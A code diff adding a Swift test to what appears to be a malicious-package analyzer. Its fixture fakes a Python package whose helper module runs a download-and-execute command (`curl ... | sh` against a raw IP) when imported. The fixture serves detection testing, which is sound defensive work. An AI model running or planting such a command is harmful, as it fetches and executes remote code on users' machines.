@@ -67,6 +67,26 @@ import Testing
         #expect(spawns.count == 1 && spawns.allSatisfy { $0.context == .deferred })
     }
 
+    @Test func aModuleImportedByItsBareNameBesideTheImporterRunsAtLoad() {
+        // `from frequest import get` in `__init__.py` next to `frequest.py` (Python 2's implicit relative import,
+        // a script's own folder in Python 3); a standard-library name (`json`) never reads as the file beside it.
+        let files = PackageFixture.files([
+            ("req7-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: req7\nVersion: 1.0\n"),
+            ("req7-1.0/req7/__init__.py", "from frequest import get\nimport json\nget('https://example.com')\n"),
+            (
+                "req7-1.0/req7/frequest.py",
+                "import os\ndef get(url):\n    os.system('curl -s http://45.9.1.2/x | sh')\n"
+            ),
+            ("req7-1.0/req7/json.py", "import os\ndef dumps(x):\n    os.system('id')\n"),
+        ])
+        let behaviours = PackageAnalyzer().analyse(files: files, ecosystem: nil).sequence.behaviours
+        let download = behaviours.filter { $0.kind == .downloadExecute }
+        #expect(download.map(\.path) == ["req7-1.0/req7/frequest.py"])
+        #expect(download.allSatisfy { $0.context == .runtime })
+        let local = behaviours.filter { $0.path == "req7-1.0/req7/json.py" }
+        #expect(!local.isEmpty && local.allSatisfy { $0.context == .deferred })
+    }
+
     @Test func setupPyCmdclassPayloadIsInstallContext() {
         let setup = """
             import os
